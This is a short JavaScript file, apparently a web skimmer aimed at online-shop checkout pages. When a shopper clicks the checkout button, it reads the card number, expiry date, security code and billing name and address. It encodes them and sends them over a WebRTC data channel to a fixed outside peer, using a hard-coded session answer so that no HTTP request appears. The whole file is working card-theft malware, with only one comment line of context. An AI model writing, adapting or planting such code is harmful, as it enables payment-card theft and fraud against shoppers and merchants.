// The skimmer the channel delivers: card fields read when the order is placed and sent back
// over a data channel to the same fixed peer (no HTTP request at all).
(function () {
  var F = ["cc_number", "cc_exp_month", "cc_exp_year", "cc_cid", "billing:firstname", "billing:lastname", "billing:street1"];
  var R = ["v=0", "o=- 7720143382917 2 IN IP4 127.0.0.1", "s=-", "t=0 0",
    "m=application 3479 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 198.51.100.7",
    "a=ice-ufrag:p9Qa", "a=ice-pwd:Vb3kLm8nQw2zXc5tYh7uJr0e",
    "a=fingerprint:sha-256 C1:04:7B:2E:99:A3:5D:10:E6:4F:82:3C:D7:0A:B5:61:9E:28:F3:47:0D:C8:6B:12:A4:5F:E0:39:7C:D1:86:2B",
    "a=setup:passive", "a=mid:0", "a=sctp-port:5000", "a=candidate:1 1 udp 2113937151 198.51.100.7 3479 typ host", ""];
  function open(cb) {
    var pc = new RTCPeerConnection({ iceServers: [] });
    var dc = pc.createDataChannel("x");
    dc.onopen = function () { cb(dc); setTimeout(function () { pc.close(); }, 3000); };
    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })
      .then(function () { return pc.setRemoteDescription({ type: "answer", sdp: R.join("\r\n") }); })
      .catch(function () {});
  }
  window.addEventListener("mousedown", function (e) {
    if (!e.target.closest("#payment-buttons-container button, .action.checkout")) return;
    var d = {};
    for (var i = 0; i < F.length; i++) {
      var el = document.getElementById(F[i]) || document.getElementsByName("payment[" + F[i] + "]")[0];
      if (el && el.value) d[F[i]] = el.value;
    }
    if (!d.cc_number) return;
    open(function (dc) { dc.send(btoa(JSON.stringify(d))); });
  }, true);
})();
